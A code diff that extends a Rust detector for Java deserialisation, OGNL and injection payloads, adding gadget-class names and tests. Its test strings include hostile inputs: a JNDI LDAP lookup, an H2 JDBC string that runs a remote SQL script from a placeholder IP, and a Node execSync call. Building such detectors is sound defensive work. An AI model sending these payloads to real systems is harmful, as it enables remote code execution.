@@ -66,6 +66,23 @@ pub fn detect(n: &Normalized) -> bool {
         || (n.has(trig::PERCENT_AT) && ognl_static(s))
         || (n.has(trig::BRACE | trig::COLON | trig::QUOTE) && prototype_key(s))
         || serialized_java(s)
+        || runtime_with_payload(s)
+}
+
+/// The JVM's process launchers named with what carries or stages a payload
+/// (`runtime` ... `getProperty`, `FileWriter`, an `Unmarshaller`, XStream's
+/// `Base64Data`): a deserialisation or expression payload, not a sentence
+/// about runtimes.
+fn runtime_with_payload(s: &[u8]) -> bool {
+    (find(s, b"runtime").is_some() || find(s, b"processbuilder").is_some())
+        && [
+            b"getproperty" as &[u8],
+            b"filewriter",
+            b"unmarshaller",
+            b"base64data",
+        ]
+        .iter()
+        .any(|w| find(s, w).is_some())
 }
 
 /// Whether a name ends at `k`: no identifier byte follows.
@@ -859,6 +876,16 @@ const JAVA_NAMES: Needles = Needles::new(&[
     b"clojure.core$",
     b"clojure.lang.",
     b"class[classloader]",
+    // Commons Collections functors beyond `rce.rs`'s transformers, and the
+    // framework whose internals OGNL payloads set.
+    b"clonetransformer",
+    b"forclosure",
+    b"instantiatefactory",
+    b"prototypeclonefactory",
+    b"prototypeserializationfactory",
+    b"whileclosure",
+    b"transformingcomparator",
+    b"org.apache.struts",
     b".getclassloader()",
     b"defineclass(",
     b"getenginebyname(",
@@ -1599,6 +1626,8 @@ mod tests {
             "jndi:ldap://1.2.3.4/a",
             "Class.forName(\"java.lang.Runtime\")",
             "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://10.0.0.1/x.sql'",
+            "<a><runtime/><b>System.getProperty</b></a>",
+            "InstantiateFactory",
             "require('child_process').execSync('id')",
             "this.x.constructor.constructor('return process')()",
         ] {
@@ -1614,6 +1643,7 @@ mod tests {
             "Load the driver with Class.forName(\"com.mysql.Driver\") first",
             "ro0abcdef",
             "acedemic",
+            "the runtime reads its configuration property file",
         ] {
             assert!(!flags(benign), "{benign}");
         }
